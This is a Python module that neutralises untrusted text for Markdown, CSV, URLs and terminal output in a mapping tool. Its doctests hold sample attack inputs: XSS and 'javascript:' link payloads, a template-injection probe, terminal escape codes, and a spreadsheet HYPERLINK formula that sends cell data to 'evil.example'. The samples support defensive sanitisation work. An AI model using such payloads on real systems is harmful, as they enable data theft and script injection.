"""Keep untrusted text inert in the files geomap writes.

Site names, commodity lists, states, layer names, recipe names and catalog titles come from
files other people made.  They end up in Markdown (``report.md``), spreadsheets (CSV) and links.
These helpers make sure such text is *shown*, never interpreted:

* :func:`markdown_text` / :func:`markdown_code`: text put into Markdown cannot open HTML
  (``<script>``, ``<img onerror>``), links or images (``[x](javascript:...)``), emphasis, math,
  table cells or new blocks;
* :func:`http_url`: only ``http(s)`` URLs with a host ever become links;
* :func:`csv_safe_frame` / :func:`write_csv`: text cells that a spreadsheet would run as a
  formula (``=``, ``+``, ``-``, ``@``, tab, carriage return first) get a leading ``'``; numbers
  stay numbers.

The HTML map has its own rules (``geomap.render._elements``: JSON with ``<``, ``>``, ``&``, ``{``,
``}`` escaped, text put on screen with ``textContent``, no template engine ever sees map text).
"""

from __future__ import annotations

import csv
import html
import os
import re
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

if TYPE_CHECKING:
    import pandas as pd

__all__ = [
    "FORMULA_PREFIXES",
    "csv_safe_frame",
    "escape_html",
    "http_url",
    "markdown_code",
    "markdown_paragraphs",
    "markdown_text",
    "neutralize_formula",
    "terminal_text",
    "write_csv",
]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet cell a formula (OWASP's CSV-injection list)."""

_PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")
_LINE_BREAKS = re.compile(r"[\r\n\v\f\x1c-\x1e\x85\u2028\u2029]+")
_ENTITY_START = re.compile(r"&(?=#|[A-Za-z0-9]+;)")
# ASCII punctuation that means something inline in CommonMark/GFM (links, images, code,
# emphasis, strikethrough, table cells, math in GitHub/Jupyter renderers, backslash itself)
_MD_PUNCTUATION = re.compile(r"([\\`*\[\]|~$])")
# ``_`` opens emphasis only at a word boundary (``snake_case`` stays readable)
_MD_UNDERSCORE = re.compile(r"(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])")
# a leading "# ", "- ", "+ " or "1. " would start a block if the text began a line
_MD_BLOCK_START = re.compile(r"^(\s*)(#{1,6}(?=\s|$)|[-+](?=\s|$)|\d{1,9}[.)](?=\s|$))")


def escape_html(text: Any, quote: bool = True) -> str:
    """Escape text for HTML: :func:`html.escape`, plus ``{`` and ``}`` as character references.

    The braces are escaped so that no ``{{``, ``{%`` or ``{#`` of a template engine appears
    in a page geomap writes, whatever the text holds.

    Examples
    --------
    >>> escape_html('<b>{{7*7}}</b> "x"')
    '&lt;b&gt;&#123;&#123;7*7&#125;&#125;&lt;/b&gt; &quot;x&quot;'
    """
    return html.escape(str(text), quote=quote).replace("{", "&#123;").replace("}", "&#125;")


def markdown_text(value: Any) -> str:
    r"""Return ``value`` as Markdown that renders exactly as the text itself.

    Line breaks become spaces (no new block can start); ``<``, ``>`` and ``&`` that could open
    a tag or an entity become entities (no raw HTML: ``<script>`` arrives as
    ``&lt;script&gt;``); ``\ ` * _ [ ] | ~ $`` are backslash-escaped (no link, image, code
    span, emphasis, table cell or math), as is a leading block marker.

    Examples
    --------
    >>> markdown_text("<img src=x onerror=alert(1)> [see](javascript:alert(1))")
    '&lt;img src=x onerror=alert(1)&gt; \\[see\\](javascript:alert(1))'
    >>> markdown_text("Zn-Pb-Cu | In_Ga")
    'Zn-Pb-Cu \\| In_Ga'
    """
    text = _LINE_BREAKS.sub(" ", str(value))
    text = _ENTITY_START.sub("&amp;", text).replace("<", "&lt;").replace(">", "&gt;")
    text = _MD_PUNCTUATION.sub(r"\\\1", text)
    text = _MD_UNDERSCORE.sub(r"\\_", text)
    return _MD_BLOCK_START.sub(_escape_block_marker, text)


def _escape_block_marker(match: re.Match[str]) -> str:
    marker = match.group(2)
    if marker[-1] in ".)":  # an ordered-list number: escape its delimiter ("1\\.")
        return f"{match.group(1)}{marker[:-1]}\\{marker[-1]}"
    return f"{match.group(1)}\\{marker}"


def markdown_paragraphs(text: Any) -> str:
    r"""Return blank-line-separated paragraphs, each made inert with :func:`markdown_text`.

    Examples
    --------
    >>> print(markdown_paragraphs("A <b>\n\nB [c](d)"))
    A &lt;b&gt;
    <BLANKLINE>
    B \[c\](d)
    """
    paragraphs = re.split(r"(?:\r?\n)\s*(?:\r?\n)", str(text))
    return "\n\n".join(markdown_text(p.strip()) for p in paragraphs if p.strip())


def markdown_code(value: Any) -> str:
    """Return ``value`` as a Markdown code span (shown verbatim, whatever it contains).

    The fence is one backtick longer than the longest run of backticks in the text, as
    CommonMark requires; line breaks become spaces.

    Examples
    --------
    >>> markdown_code("kuroko-vms")
    '`kuroko-vms`'
    >>> markdown_code("a`b")
    '`` a`b ``'
    """
    text = _LINE_BREAKS.sub(" ", str(value))
    runs = [len(run) for run in re.findall(r"`+", text)]
    fence = "`" * (max(runs, default=0) + 1)
    pad = " " if runs or text.startswith(" ") or text.endswith(" ") else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def http_url(value: Any) -> str | None:
    """Return ``value`` if it is an absolute ``http(s)`` URL with a host, else ``None``.

    Anything else (``javascript:``, ``data:``, ``file:``, relative or scheme-relative URLs,
    URLs with whitespace or control characters) must never be rendered as a link.

    Examples
    --------
    >>> http_url("https://creativecommons.org/licenses/by/4.0/")
    'https://creativecommons.org/licenses/by/4.0/'
    >>> http_url("javascript:alert(1)") is None
    True
    """
    if not isinstance(value, str) or not value:
        return None
    if any(ch.isspace() or ord(ch) < 0x20 or ord(ch) == 0x7F for ch in value):
        return None
    try:
        parts = urlsplit(value)
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https") or not parts.hostname:
        return None
    if not value.lower().startswith(("http://", "https://")):
        return None
    return value


_TERMINAL_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def terminal_text(text: str) -> str:
    r"""Return ``text`` with terminal control characters shown, not obeyed.

    Escape sequences (``\x1b[...``), carriage returns, backspaces and bidirectional
    overrides in a site name could rewrite what a table printed on a terminal shows; they are
    written as ``\xNN`` / ``\uNNNN``.  Line feeds and tabs are kept.

    Examples
    --------
    >>> terminal_text("Mine\x1b[2J\rX")
    'Mine\\x1b[2J\\x0dX'
    """
    return _TERMINAL_CONTROLS.sub(
        lambda m: (
            f"\\x{ord(m.group()):02x}" if ord(m.group()) < 0x100 else f"\\u{ord(m.group()):04x}"
        ),
        text,
    )


def neutralize_formula(value: str) -> str:
    r"""Prefix ``'`` to text a spreadsheet would evaluate as a formula.

    Text that is a plain number (``-105.2``, ``+3``, ``1e-5``) is left alone: it cannot run
    anything and stays numeric when the file is opened.

    Examples
    --------
    >>> neutralize_formula('=HYPERLINK("http://evil.example/?x="&A1)')
    '\'=HYPERLINK("http://evil.example/?x="&A1)'
    >>> neutralize_formula("-105.2")
    '-105.2'
    """
    if value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def _neutral_cell(value: Any) -> Any:
    return neutralize_formula(value) if isinstance(value, str) else value


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``frame`` whose text cells and column names are formula-safe.

    Only text (``str``) cells change; numeric columns, numbers in mixed columns and missing
    values are kept as they are.
    """
    import pandas as pd

    out = frame.copy()
    for position, (_, column) in enumerate(out.items()):
        if _is_text(column):
            if isinstance(column.dtype, pd.CategoricalDtype):
                column = column.astype(object)
            out.isetitem(position, column.map(_neutral_cell, na_action="ignore").to_numpy())
    out.columns = [_neutral_cell(c) for c in out.columns]
    return out


def write_csv(
    frame: pd.DataFrame, path: str | os.PathLike[str] | None = None, **options: Any
) -> str | None:
    """Write ``frame`` as CSV with formula-safe text cells (see :func:`csv_safe_frame`).

    Every CSV geomap writes goes through here.  ``options`` are passed to
    :meth:`pandas.DataFrame.to_csv` (``index=False`` unless given); with no ``path`` the CSV
    text is returned.
    """
    options.setdefault("index", False)
    safe = csv_safe_frame(frame)
    terminator = options.get("lineterminator") or os.linesep
    if "\r" not in terminator and _has_carriage_return(safe):
        # the csv module quotes a field holding "\n" but not one holding a lone "\r" when
        # lines end in "\n": that "\r" would split the row for most readers
        options.setdefault("quoting", csv.QUOTE_NONNUMERIC)
    return safe.to_csv(path, **options)


def _has_carriage_return(frame: pd.DataFrame) -> bool:
    if any(isinstance(c, str) and "\r" in c for c in frame.columns):
        return True
    return any(
        column.map(lambda v: isinstance(v, str) and "\r" in v, na_action="ignore").any()
        for _, column in frame.items()
        if _is_text(column)
    )


def _is_text(column: pd.Series) -> bool:
    """Whether a column may hold text (object, string or categorical dtype)."""
    import pandas as pd

    return column.dtype == object or isinstance(column.dtype, pd.StringDtype | pd.CategoricalDtype)
